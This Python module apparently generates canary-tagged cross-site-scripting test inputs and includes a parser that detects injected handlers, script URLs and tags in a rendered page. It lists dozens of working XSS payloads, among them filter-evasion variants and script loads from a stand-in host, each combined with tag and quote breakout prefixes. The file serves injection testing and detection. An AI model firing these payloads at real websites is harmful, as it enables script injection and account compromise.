"""A thousand texts that would like to be markup, put together from a way out of where they stand
and something that would run there. The canary is a word that nobody else writes."""
import html.parser
import re

CANARY = 'kanari'
WAYS_OUT = [
    '',
    '"',
    "'",
    '">',
    "'>",
    '`',
    '\\"',
    '" ',
    '/>',
    '</title>',
    '</textarea>',
    '</script>',
    '</style>',
    '-->',
    ']]>',
    '</option></select>',
    '</ins></del>',
    '</a>',
    '</h1>',
    '<!--',
]
SCRIPTS = [
    text.replace('kanari', CANARY).replace('SVG', 'http://www.w3.org/2000/svg')
    for text in '''<script>kanari()</script>
<ScRiPt>kanari()</sCrIpT>
<script src=//kanari.example></script>
<script/kanari>kanari()</script>
<scr<script>ipt>kanari()</scr</script>ipt>
<img src=x onerror=kanari()>
<img src=x onerror=kanari()
<img/src/onerror=kanari()>
<img src="x` `<script>kanari()</script>"` `>
<svg onload=kanari()>
<svg/onload=kanari()//
<svg><script>kanari()</script></svg>
<svg><animate onbegin=kanari() attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=SVG><script>kanari()</script></svg>#x"/>
<math><mtext></form><form><mglyph><style></math><img src onerror=kanari()>
<body onload=kanari()>
<iframe srcdoc="<script>parent.kanari()</script>"></iframe>
<iframe src=javascript:kanari()></iframe>
<object data="data:text/html,<script>kanari()</script>"></object>
<embed src=//kanari.example>
<base href=//kanari.example/>
<meta http-equiv=refresh content="0;url=//kanari.example">
<link rel=stylesheet href=//kanari.example>
<style>@import "//kanari.example";</style>
<div style="background:url(//kanari.example)">kanari</div>
<form action=//kanari.example><input name=q value=kanari>
<button formaction=javascript:kanari()>kanari</button>
<input autofocus onfocus=kanari()>
<details open ontoggle=kanari()>
<video><source onerror=kanari()></video>
<audio src onerror=kanari()>
<marquee onstart=kanari()>
<a href=javascript:kanari()>kanari</a>
<a href="java&#9;script:kanari()">kanari</a>
<kanari>
<kanari onclick=kanari()>
<x contenteditable onblur=kanari()>kanari
<template><script>kanari()</script></template>
<noscript><p title="</noscript><img src=x onerror=kanari()>">
<textarea><script>kanari()</script>
<table background=javascript:kanari()>
onmouseover=kanari() kanari=
onfocus=kanari() autofocus kanari=
style=animation-name:x onanimationstart=kanari() kanari=
&lt;script&gt;kanari()&lt;/script&gt;
&#60;script&#62;kanari()&#60;/script&#62;
\\x3cscript\\x3ekanari()\\x3c/script\\x3e
{{kanari}}{{%AUTOESCAPE context="JAVASCRIPT"}}
<!--#include virtual="/kanari"-->
javascript:kanari()//'''.split(
        '\n'
    )
]
TEXTS = [way + script for way in WAYS_OUT for script in SCRIPTS]
RUNS = {'style', 'srcdoc', 'background', 'autofocus'}
ADDRESSES = {'href', 'src', 'action', 'formaction', 'data'}


def pack(texts, longest):
    """The texts joined by blanks, as few as fit into each field of that length."""
    packed = ['']
    for text in texts:
        if len(packed[-1]) + len(text) + 1 > longest:
            packed.append('')
        packed[-1] += ' ' * bool(packed[-1]) + text
    return packed


class Markup(html.parser.HTMLParser):
    """What stands in a page: (element, attribute); and in `faults` what would run, or is an address
    of a stranger."""

    def __init__(self, page):
        super().__init__()
        self.found, self.faults = set(), []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.found |= {(tag, name) for name, _ in attributes} | {(tag, '')}
        for name, value in attributes:
            if CANARY in name or name.startswith('on') or name in RUNS:
                self.faults.append(f'<{tag} {name}="{value}">')
            if name in ADDRESSES and re.match(
                rf'\s*(?:(?:javascript|data|vbscript):|(?:https?:)?//{CANARY})', value or '', re.I
            ):
                self.faults.append(f'<{tag} {name}="{value}">')
        if CANARY in tag:
            self.faults.append(f'<{tag}>')

    def handle_data(self, data):
        if self.lasttag in ('script', 'style') and CANARY in data and self.cdata_elem:
            self.faults.append(f'in <{self.lasttag}>: {data[:100]}')
